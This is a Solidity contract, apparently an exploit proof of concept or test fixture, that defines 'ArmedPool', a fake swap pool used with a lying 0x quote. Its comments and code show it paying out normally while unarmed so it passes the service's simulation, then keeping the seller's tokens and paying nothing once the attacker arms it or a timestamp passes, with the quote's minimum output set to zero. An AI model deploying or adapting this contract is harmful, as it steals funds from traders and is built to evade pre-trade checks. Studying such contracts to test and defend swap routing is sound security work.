// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

interface IERC20R {
    function transfer(address to, uint256 amount) external returns (bool);
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
}

/// A "pool" a lying 0x quote routes through with the genuine Settler's BASIC action.
/// Unarmed (as during the service's simulation) it pays `payout` of buyToken back to the caller (the
/// Settler) -- an honest-looking fill. Armed (flipped by the attacker after the 200), it keeps the input and
/// pays nothing; the Settler's final check, whose minAmountOut the quote set to 0, lets it through.
/// A time-bomb variant: also armed once block.timestamp >= armAt.
contract ArmedPool {
    bool public armed;
    uint256 public armAt = type(uint256).max;
    function arm() external { armed = true; }
    function armFrom(uint256 t) external { armAt = t; }

    function swap(address sellToken, uint256 amount, address buyToken, uint256 payout) external {
        IERC20R(sellToken).transferFrom(msg.sender, address(this), amount);
        if (!armed && block.timestamp < armAt && payout > 0) IERC20R(buyToken).transfer(msg.sender, payout);
    }
}
